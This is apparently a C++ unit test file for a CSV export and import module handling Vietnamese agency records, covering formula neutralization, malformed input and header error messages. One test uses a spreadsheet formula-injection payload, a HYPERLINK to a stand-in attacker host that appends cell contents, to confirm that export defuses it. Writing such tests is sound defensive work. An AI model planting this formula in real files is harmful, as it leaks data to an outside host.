#include "org/agency_csv.hpp"

#include <gtest/gtest.h>

namespace cqdt::org {
namespace {

AgencyCsvRow Row(const std::string& name, const std::string& phone) {
  AgencyCsvRow r;
  r.agency.code = "000.00.01.H01";
  r.agency.name = name;
  r.agency.short_name = "SNV";
  r.agency.kind = AgencyKind::kDepartment;
  r.agency.phone = phone;
  r.agency.valid_from = "2025-07-01";
  r.parent_code = "000.00.00.H01";
  return r;
}

TEST(AgencyCsvTest, ExportNeutralizesFormulasAndImportRestoresThem) {
  const std::string formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm vào đây\")";
  std::string csv = WriteAgencyCsv({Row(formula, "+84 296 3852 000"), Row("-", "")});
  // No cell of the file begins with a formula character.
  EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos);
  EXPECT_EQ(csv.find(",\"=HYPERLINK"), std::string::npos);
  EXPECT_NE(csv.find(",\"'=HYPERLINK"), std::string::npos);
  EXPECT_NE(csv.find(",'+84 296 3852 000,"), std::string::npos);
  EXPECT_EQ(csv.find(",+84"), std::string::npos);
  // Round trip: the values come back exactly.
  auto parsed = ParseAgencyCsv(csv);
  ASSERT_TRUE(parsed) << parsed.error().message();
  ASSERT_EQ(parsed->size(), 2u);
  EXPECT_EQ(*parsed->at(0).name, formula);
  EXPECT_EQ(*parsed->at(0).phone, "+84 296 3852 000");
  EXPECT_EQ(*parsed->at(1).name, "-");
}

TEST(AgencyCsvTest, RejectsBrokenFraming) {
  EXPECT_EQ(ParseAgencyCsv("code,name,shortName,kind\n\"x,y").error().code(),
            ErrorCode::kMalformed);
  auto cols = ParseAgencyCsv("code,name,shortName,kind\na,b,c\n");
  ASSERT_FALSE(cols);
  EXPECT_NE(cols.error().message().find("Dòng 2"), std::string::npos);
  EXPECT_FALSE(ParseAgencyCsv("code,name,kind\n"));  // missing shortName column
  EXPECT_FALSE(ParseAgencyCsv("code,name,shortName,kind,secret\n"));
  EXPECT_TRUE(
      ParseAgencyCsv("\xEF\xBB\xBF"
                     "code,name,shortName,kind\r\n"));
}

TEST(AgencyCsvTest, HeaderErrorsNameColumnsWithTheirVietnameseLabel) {
  auto r = ParseAgencyCsv("code,name,kind\n");
  ASSERT_FALSE(r);
  ASSERT_EQ(r.error().fields().size(), 1u);
  EXPECT_EQ(r.error().fields()[0].message, "Thiếu cột bắt buộc 'shortName' (Tên viết tắt).");
}

}  // namespace
}  // namespace cqdt::org
